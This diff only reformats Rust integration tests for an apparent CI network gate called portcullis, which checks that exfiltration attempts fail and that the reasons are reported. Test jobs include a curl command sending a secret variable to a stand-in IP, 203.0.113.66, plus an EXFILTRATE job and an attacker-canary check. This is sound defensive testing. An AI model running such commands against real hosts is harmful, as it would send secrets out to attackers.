@@ -72,7 +72,8 @@ fn a_store_that_cant_be_read_never_means_a_silent_audit() -> Result<()> {
             let result = gate.run(&job(&gate, &script))?;
             shell(mending)?;
             let (exit, log) = started_hook(&result)?;
-            let context = || format!("{mode}, {breaking}:\n{}\n{}", result.log(), gate.monitor.log());
+            let context =
+                || format!("{mode}, {breaking}:\n{}\n{}", result.log(), gate.monitor.log());
             ensure!(log.contains(reason), "{}", context());
             ensure!(result.summary().contains(reason), "{}", context());
             let events = gate.last_events()?;
@@ -118,7 +119,8 @@ fn a_store_that_cant_be_read_never_means_a_silent_audit() -> Result<()> {
         // A workflow that never had a policy gets none in this mode either.
         if mode == "last-known-good" {
             shell(BROKEN[0].0)?;
-            let unknown = gate.run(&job(&gate, EXFILTRATE).workflow_file(".github/workflows/new.yml"))?;
+            let unknown =
+                gate.run(&job(&gate, EXFILTRATE).workflow_file(".github/workflows/new.yml"))?;
             assert_eq!(started_hook(&unknown)?.0, Some(2), "{}", unknown.log());
             assert!(!gate.world.attacker().saw(&gate.canary)?);
         }
@@ -135,7 +137,8 @@ fn unenforceable(mode: &str) -> Result<()> {
     let resolv = gate.world.directory().join("etc/resolv.conf");
     let servers = fs::read_to_string(&resolv)?;
     fs::write(&resolv, "# nobody\n")?;
-    let result = gate.run(&job(&gate, "curl -sSk --max-time 3 https://203.0.113.66/$S; echo after"))?;
+    let result =
+        gate.run(&job(&gate, "curl -sSk --max-time 3 https://203.0.113.66/$S; echo after"))?;
     let context = || format!("{mode}:\n{:#?}\n{}", result, gate.monitor.log());
     let reason = "DNS server";
     assert_nothing_left(&gate.world).with_context(context)?;
@@ -207,12 +210,11 @@ fn without_cgroup_v2_the_weakness_is_named() -> Result<()> {
     fs::set_permissions(&wrapped, Permissions::from_mode(0o755))?;
     let canary = portcullis_tests::Canary::generate()?;
     let log = fs::File::create(world.directory().join("monitor.log"))?;
-    let mut monitor = world
-        .command(&wrapped)
-        .arg("--root")
-        .arg(world.root())
-        .arg("serve")
-        .spawn(std::process::Stdio::null(), log.try_clone()?, log)?;
+    let mut monitor = world.command(&wrapped).arg("--root").arg(world.root()).arg("serve").spawn(
+        std::process::Stdio::null(),
+        log.try_clone()?,
+        log,
+    )?;
     let log = || fs::read_to_string(world.directory().join("monitor.log")).unwrap_or_default();
     wait_until("the monitor to listen", || {
         std::os::unix::net::UnixStream::connect(world.socket()).is_ok()
@@ -248,7 +250,8 @@ fn what_is_in_the_way_is_told() -> Result<()> {
     let jobs = gate.world.root().join("run/portcullis/jobs");
     fs::remove_dir(&jobs)?;
     fs::write(&jobs, "in the way")?;
-    let result = gate.run(&job(&gate, "curl -sSk --max-time 3 https://203.0.113.66/$S; echo after"))?;
+    let result =
+        gate.run(&job(&gate, "curl -sSk --max-time 3 https://203.0.113.66/$S; echo after"))?;
     let message = &result.annotations.first().context("no annotation")?.message;
     ensure!(message.contains("state can't be written"), "{message}");
     assert_eq!(result.worker_exit_code, 137);
